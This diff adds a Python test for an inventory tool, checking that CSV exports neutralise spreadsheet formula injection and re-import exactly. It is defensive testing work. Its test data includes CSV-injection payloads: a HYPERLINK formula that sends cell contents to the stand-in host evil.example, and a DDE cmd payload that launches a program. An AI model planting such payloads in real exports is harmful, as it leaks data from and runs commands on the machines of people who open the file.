@@ -194,3 +194,59 @@ def test_a_million_movements_export_in_constant_memory(tmp_path, db):
     peak_mib = int(rss.read_text().split()[-1]) / 1024  # KiB
     print(f"exported {5 * rows} movements in {elapsed:.1f} s, peak RSS {peak_mib:.1f} MiB")
     assert peak_mib < 64, f"peak RSS {peak_mib:.1f} MiB"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|'/c calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tTabbed",
+    "'=already quoted",
+]
+
+
+def test_csv_export_neutralises_formulas_and_import_takes_them_back(tmp_path, db):
+    """OWASP's rule: a text cell beginning with =, +, -, @, a tab or a carriage return gets a
+    leading ' in CSV (a spreadsheet shows it rather than running it); numbers, JSON Lines and
+    --raw-csv are left as stored, and a CSV export imports back exactly. (A carriage return is
+    in the unit tests of formula.rs: text-mode pipes here would turn it into a newline.)"""
+    rows = [
+        {"sku": f"F-{i}", "name": f"{text} name", "description": text, "price": "1", "location": f"{text} loc", "initial_quantity": 1}
+        for i, text in enumerate(FORMULAS)
+    ]
+    cli("import", "products", write(tmp_path / "p.jsonl", "".join(json.dumps(r) + "\n" for r in rows)), "--db", db, check=0)
+    # A count below on hand is an ADJUST with a negative quantity: a number, never quoted.
+    cli("import", "levels", write(tmp_path / "=counts.csv", "sku,location,counted\nF-3,-2+3 loc,0\n"), "--db", db, check=0)
+    stored = export_json(db, "products")
+    # Descriptions are stored as given, tabs and carriage returns included (names and
+    # locations are trimmed by the engine).
+    assert [p["description"] for p in stored] == FORMULAS
+
+    exported = export_rows(db, "products")
+    for column in ("name", "description", "location"):
+        assert [r[column] for r in exported] == ["'" + p[column] if p[column][0] in "=+-@\t\r'" else p[column] for p in stored], column
+    assert [r["description"] for r in exported] == ["'" + t for t in FORMULAS]
+    assert [r["price"] for r in exported] == ["1"] * len(FORMULAS)
+    [level] = [r for r in export_rows(db, "levels") if r["sku"] == "F-3"]
+    assert (level["location"], level["counted"]) == ("'-2+3 loc", "0")
+    [adjust] = [m for m in export_rows(db, "movements") if m["kind"] == "ADJUST"]
+    assert (adjust["quantity"], adjust["reference"], adjust["location"]) == ("-1", "import:=counts.csv", "'-2+3 loc")
+    # JSON Lines is raw, and so is CSV with --raw-csv.
+    assert [r["description"] for r in stored] == FORMULAS
+    raw = list(csv.DictReader(io.StringIO(export(db, "products", "--raw-csv"))))
+    assert [r["description"] for r in raw] == FORMULAS
+
+    # The round trip is exact: a neutralised export imports as the text it stands for.
+    products, levels = tmp_path / "products.csv", tmp_path / "levels.csv"
+    cli("export", "products", "--db", db, "--out", products, check=0)
+    cli("export", "levels", "--db", db, "--out", levels, check=0)
+    copy = tmp_path / "copy.db"
+    cli("import", "products", products, "--db", copy, check=0)
+    cli("import", "levels", levels, "--db", copy, check=0)
+    assert export(copy, "products", "--format", "jsonl") == export(db, "products", "--format", "jsonl")
+    assert export(copy, "levels", "--format", "jsonl") == export(db, "levels", "--format", "jsonl")
+    # Imported with --raw-csv, the quote is kept as text.
+    raw_copy = tmp_path / "raw.db"
+    cli("import", "products", products, "--db", raw_copy, "--raw-csv", check=0)
+    assert [r["description"] for r in export_json(raw_copy, "products")] == ["'" + t for t in FORMULAS]
